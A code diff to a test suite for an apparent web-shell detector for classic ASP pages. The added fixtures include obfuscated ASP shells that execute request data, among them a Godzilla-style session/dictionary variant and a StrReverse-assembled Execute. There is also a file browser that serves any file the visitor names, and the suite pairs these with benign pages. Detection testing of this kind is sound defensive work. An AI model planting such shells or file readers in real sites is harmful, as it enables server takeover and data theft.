@@ -6,7 +6,7 @@
  */
 import { describe, expect, it } from 'vitest';
 import { judgeWebShell } from '../../src/findings/web-shell.js';
-import { foldVbStrings } from '../../src/findings/web-shell/classic-asp.js';
+import { classicAspShell, foldVbStrings } from '../../src/findings/web-shell/classic-asp.js';
 import { decodeEncodedScripts } from '../../src/findings/web-shell/script-encoded.js';
 import { addedFile, fileMeta } from '../support/change-facts.js';
 
@@ -99,6 +99,14 @@ describe('classic ASP', () => {
       '<%\ncodes = Array(101, 118, 97, 108, 40, 114, 101, 113, 117, 101, 115, 116, 40, 34, 120, 34, 41, 41)\ns = ""\nFor i = 0 To UBound(codes)\n  s = s & Chr(codes(i))\nNext\nExecute(s)\n%>',
     ],
     [
+      'Execute of a template whose placeholders are replaced step by step',
+      '<%\nt = "ACTION TARGET(PARAM)"\nt = Replace(t, "ACTION", StrReverse("etucexE"))\nt = Replace(t, "TARGET", StrReverse("tseuqer"))\nt = Replace(t, "PARAM", """" & "x" & """")\ncmd = t\nExecute(cmd)\n%>',
+    ],
+    [
+      'a file browser sending any file and listing any folder the visitor names',
+      '<% Set fso = Server.CreateObject("Scripting.FileSystemObject")\nfilepath = trim(Request.QueryString("file"))\nIf fso.FileExists(filepath) Then\n  Set file = fso.GetFile(filepath)\n  Set stream = Server.CreateObject("ADODB.Stream")\n  stream.Open\n  stream.LoadFromFile(file.Path)\n  Response.BinaryWrite(stream.Read)\nEnd If\npath = trim(Request.QueryString("path"))\nSet folder = fso.GetFolder(path)\nFor Each f In folder.Files\n  Response.Write f.Name\nNext %>',
+    ],
+    [
       'Execute on the line after a comment that ends a sentence',
       '<%\nv = Request("k")\n\' applies the formatting rule.\nExecute(fmt(v))\n%>',
     ],
@@ -184,6 +192,14 @@ describe('classic ASP', () => {
       '<% a = "Call " & "Show"\nr = "List"\nIf x Then r = "Grid"\nExecute a & r & "()"\nid = Request("id") %>',
     ],
     [
+      'a page filling a template of its own step by step and running it',
+      '<% id = Request("id")\nt = "Call SHOW(NUM)"\nt = Replace(t, "SHOW", "ShowNews")\nt = Replace(t, "NUM", "0")\nExecute(t) %>',
+    ],
+    [
+      'a download page sending a file by name from a folder of its own, and listing that folder',
+      '<% Set fso = Server.CreateObject("Scripting.FileSystemObject")\nname = Replace(Request("f"), "..", "")\nSet stream = Server.CreateObject("ADODB.Stream")\nstream.Open\nstream.LoadFromFile(Server.MapPath("files/" & name))\nResponse.BinaryWrite(stream.Read)\nSet folder = fso.GetFolder(Server.MapPath("files"))\nFor Each f In folder.Files\n  Response.Write f.Name\nNext %>',
+    ],
+    [
       'a page calling a stored procedure with EXECUTE in its SQL text',
       '<% id = Request.QueryString("id")\nstrSQL = "EXECUTE LadderMatchDetails @ID = \'" & id & "\'"\nSet rs = conn.Execute(strSQL) %>',
     ],
@@ -243,5 +259,48 @@ describe('classic ASP', () => {
     const started = performance.now();
     expect(decodeEncodedScripts(many).length).toBeLessThan(many.length);
     expect(performance.now() - started).toBeLessThan(500);
+  });
+});
+
+describe('classic ASP code kept in the session or a dictionary', () => {
+  const judge = (text: string) => classicAspShell(foldVbStrings(text));
+  // Godzilla's ASP variants: the first request stores the decoded payload in the session
+  // under a key the page computes; later ones run it through a dictionary.
+  const shell = `<%
+Set d = Server.CreateObject("Scripting.Dictionary")
+Dim k(1)
+k(0) = "pass": k(1) = "payload"
+data = Request.Form(k(0))
+If IsEmpty(Session(Join(Array("pay","load"),""))) Then
+  Session(Join(Array("pay","load"),"")) = Decode(data)
+Else
+  d.Add k(1), Session(Join(Array("pay","load"),""))
+  Execute(d.Item(k(1)))
+End If
+%>`;
+
+  it('calls running what the request stored under a computed key a web shell', () => {
+    expect(judge(shell)).toMatch(/running what the request stored in the session or a dictionary/);
+    // Code the page assembles to read the dictionary back, by the constant its key holds.
+    const assembled = `<%
+Set d = Server.CreateObject("Scripting.Dictionary")
+p = "payload"
+data = Request.Form("pass")
+Session(p) = Decode(data)
+d.Add p, Session(p)
+code = Chr(69) & "xecute(d(""" & p & """))"
+Eval(code)
+%>`;
+    expect(judge(assembled)).toMatch(/running/);
+  });
+
+  it('leaves a page that keeps the visitor in the session and runs its own code alone', () => {
+    const page = `<%
+Session(SitePrefix & "user") = Request.Form("user")
+handler = "ShowHome"
+If Request("page") = "news" Then handler = "ShowNews"
+Execute("Call " & handler & "()")
+%>`;
+    expect(judge(page)).toBeUndefined();
   });
 });
